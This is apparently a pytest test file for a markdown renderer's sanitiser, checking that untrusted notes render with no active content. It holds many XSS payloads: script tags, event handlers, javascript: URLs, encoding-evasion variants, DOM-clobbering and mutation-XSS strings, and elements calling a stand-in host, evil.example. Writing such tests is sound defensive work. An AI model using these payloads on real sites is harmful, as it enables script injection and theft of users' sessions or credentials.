"""Notes by strangers: whatever they write, nothing that is left can run, load, frame or hide anything."""

from __future__ import annotations

import re
from collections.abc import Callable
from typing import Any

import pytest

from codex_publisher.markdown import Address, AddressKind, fill_links, render

SCRIPTS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0c>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1);//<</script>",
    "<script>/*</p>*/alert(1)</script>",
    "x <script>alert(1)</script> y",
    "# <script>alert(1)</script>",
    "| <script>alert(1)</script> |\n|---|",
    "[<script>alert(1)</script>](x)",
    "[[<script>alert(1)</script>|<img src=x onerror=alert(1)>]]",
    "> [!NOTE] <script>alert(1)</script>\n> x",
    "```<script>\nx\n```",
    '```x"onmouseover="alert(1)\ny\n```',
    "- [ ] <script>alert(1)</script>",
    "x[^<script>]\n\n[^<script>]: <script>alert(1)</script>",
    "## Curator Notes\nPRIMARY CONNECTION: <script>alert(1)</script>",
    "## Agent Notes\n**<script>alert(1)</script>:** x",
    "CLAIM CANDIDATE: <script>alert(1)</script> one two three",
]
HANDLERS = [
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x"onerror="alert(1)">',
    "<IMG SRC=x ONERROR=alert(1)>",
    "<img src=x o\u006eerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<html onmouseover=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<p onclick=alert(1) style='width:100%'>x</p>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<a href="x" onclick="alert(1)">y</a>',
    '![x](y "a\\" onerror=alert(1) \\"")',
    '!["onerror=alert(1) x="](y)',
    '[x](y "\\"><script>alert(1)</script>")',
    '[[x" onclick="alert(1)]]',
    '![[x.png" onerror="alert(1)]]',
]
ADDRESSES = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](&#1;javascript:alert(1))",
    "<javascript:alert(1)>",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='blob:x'>x</a><a href='file:///etc/passwd'>y</a>",
    "<img src='javascript:alert(1)'>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<a xlink:href='javascript:alert(1)'>x</a>",
    "<a href='javascript:alert(1)//.md'>x</a>",
    "[[javascript:alert(1)]]",
    "![[javascript:alert(1)]]",
    "<blockquote cite='javascript:alert(1)'>x</blockquote>",
    "<form action='javascript:alert(1)'><button formaction='javascript:alert(1)'>x</button></form>",
]
ELEMENTS = [
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<style>@import '//evil.example';",
    "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<applet code=x></applet><frameset><frame src=x></frameset>",
    "<form action=//evil.example><input name=password><textarea>x</textarea></form><select><option>",
    "<input type=image src=//evil.example/x.png><input type=text value=x><input type=hidden>",
    "<template><script>alert(1)</script></template>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<audio src=//evil.example></audio><video poster=//evil.example></video>",
    "<picture><source srcset=//evil.example><img srcset='//evil.example 2x' src=//evil.example></picture>",
    "<dialog open>x</dialog><canvas></canvas><map><area href='javascript:alert(1)'></map>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<div style='position:fixed;inset:0;background:url(//evil.example)'>x</div>",
    "<div class='md-header md-overlay' data-md-component=header data-md-color-scheme=slate>x</div>",
    "<div class='codex-curator headerlink admonition' hidden contenteditable draggable=true>x</div>",
    "<p slot=x part=y is=z tabindex=1 accesskey=s ping=//evil.example target=_top>x</p>",
    "<a href=x target=_blank ping=//evil.example download>x</a>",
]
CLOBBERING = [
    "<a id=document name=location>x</a>",
    "<form id=x><input name=attributes></form>",
    "<img name=getElementById id=__md_scope src=x>",
    "<b id=__search id=__drawer for=__drawer>x</b><label for=__drawer>y</label>",
    "<a id=currentScript></a><a id=currentScript name=src href='clobbered:x'></a>",
    "## __proto__\n## constructor\n## __config",
    "x ^__config\n\ny ^config",
    "x[^__config]\n\n[^__config]: y",
]
MUTATIONS = [
    "<noscript><style></noscript><img src=x onerror=alert(1)></style>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg><title><![CDATA[</title><img src=x onerror=alert(1)>]]></svg>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?xml><img src=x onerror=alert(1)>?>",
    "<!DOCTYPE x [<!ENTITY y '<img src=x onerror=alert(1)>'>]>&y;",
    "<xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>",
    "<textarea></textarea><title></title><img src=x onerror=alert(1)></title>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<b title='`<img src=x onerror=alert(1)>`'>x</b>",
    "<b title=`<img src=x onerror=alert(1)>`>x</b>",
    "<p title='--><img src=x onerror=alert(1)>'>x",
    "&lt;img src=x onerror=alert(1)&gt;",
    "`<img src=x onerror=alert(1)>`",
    "<div\n\n<img src=x onerror=alert(1)>",
    "<img src='x' alt='<script>alert(1)</script>' title='\"><script>alert(1)</script>'>",
    "<a<img src=x onerror=alert(1)>",
    '<a b"c=\'d onclick="alert(1)"\' href=x>y</a>',
    "<table><tr><script>alert(1)</script><td>x</table>",
    "<select><iframe></select><img src=x onerror=alert(1)>",
    "</body></html><script>alert(1)</script>",
    "</article></main><div class=md-footer>x</div>",
    "<p data-sourcepos='9999999999:1-1:1' data-wikilink=true data-codex-form=bare data-codex-claim=x>[[a]]",
    "<a data-wikilink=true data-codex-form=nonsense data-at=x href='javascript:alert(1)'>x</a>",
    "<li><input type=file checked onclick=alert(1)>x</li>",
]
NOTES = [*SCRIPTS, *HANDLERS, *ADDRESSES, *ELEMENTS, *CLOBBERING, *MUTATIONS]

TAGS = set(
    re.findall(
        r"\w+",
        "a abbr aside b bdi bdo blockquote br caption cite code col colgroup dd del details dfn div dl dt em"
        " figcaption figure h2 h3 h4 h5 h6 hr i img input ins kbd label li mark ol p pre q rp rt ruby s samp"
        " section small span strong sub summary sup table tbody td tfoot th thead time tr tt u ul var wbr",
    )
)
ATTRIBUTES = set(
    re.findall(
        r"[\w-]+",
        "class dir id lang title aria-label href span datetime open alt height loading src width checked"
        " tabindex disabled type value reversed start align colspan rowspan scope rel",
    )
)
CLASS = re.compile(
    r"(headerlink|admonition(-title)?|note|tip|info|warning|danger|highlight|footnote(-ref|-backref)?|[a-z]{1,3}\d?"
    r"|task-list(-item|-control|-indicator)?|language-\S+|codex-[a-z_-]+)"
)


def assert_harmless(html: str, read_html: Callable[[str], list[Any]], filled: bool = False) -> None:
    for tag in read_html(html):
        assert tag.name in TAGS, tag
        for name, value in tag.attributes.items():
            assert name in ATTRIBUTES, tag
            if name in ("href", "src"):
                good = r"codex:\d+|#n-\S+" + (r"|https://ok\.example/|\.\./ok/" if filled else "")
                assert re.fullmatch(good, value), tag
            if name == "id":
                assert value.startswith("n-"), tag
            if name == "class":
                assert all(CLASS.fullmatch(each) for each in value.split()), tag
        if tag.name == "input":
            assert tag.attributes["type"] == "checkbox"
            assert "disabled" in tag.attributes


@pytest.mark.parametrize("note", NOTES)
def test_nothing_is_left_that_does_anything(note: str, read_html: Callable[[str], list[Any]]) -> None:
    for text in (note, f"before\n\n{note}\n\nafter", f"<div>\n{note}\n</div>", f"> - {note}"):
        document = render(text)
        assert not document.fallback
        assert_harmless(document.html, read_html)
        kinds = [AddressKind.OUTWARD, AddressKind.NOTE, AddressKind.WANTED, AddressKind.PLAIN]
        for kind in kinds:
            href = "https://ok.example/" if kind is AddressKind.OUTWARD else "../ok/"
            addresses = [Address(href, kind)] * len(document.links)
            assert_harmless(fill_links(document.html, addresses), read_html, filled=True)


@pytest.mark.parametrize("note", NOTES)
def test_a_resolver_that_passes_on_what_the_note_says_does_no_harm(
    note: str,
    read_html: Callable[[str], list[Any]],
) -> None:
    document = render(note)
    for kind in AddressKind:
        html = fill_links(document.html, [Address(link.target, kind, link.text) for link in document.links])
        for tag in read_html(html):
            assert tag.name in TAGS
            for name, value in tag.attributes.items():
                assert name in ATTRIBUTES
                if name in ("href", "src"):
                    address = re.sub(r"[\x00-\x20]", "", value).lower()
                    assert re.match(r"(https?://|mailto:|#|(?!//)(?![a-z0-9+.-]*:))", address), tag


@pytest.mark.parametrize("note", CLOBBERING)
def test_no_name_is_the_pages_own(note: str, read_html: Callable[[str], list[Any]]) -> None:
    names = [tag.attributes["id"] for tag in read_html(render(note).html) if "id" in tag.attributes]
    assert len(names) == len(set(names))
    assert all(name.startswith("n-") for name in names)


def test_classes_of_a_note_are_dropped_and_ours_cannot_be_worn() -> None:
    html = render(
        '<div class="codex-curator admonition danger x">a</div>\n\n<b class="headerlink">b</b>'
    ).html
    assert "class=" not in html


def test_words_beside_what_is_forbidden_stay() -> None:
    html = render(
        "Use the <script> tag, or <Your Name>, not <iframe>.\n\nThen <style>this</style> goes."
    ).html
    assert "Use the &lt;script&gt; tag, or &lt;Your Name&gt;, not &lt;iframe&gt;." in html
    assert "Then  goes." in html
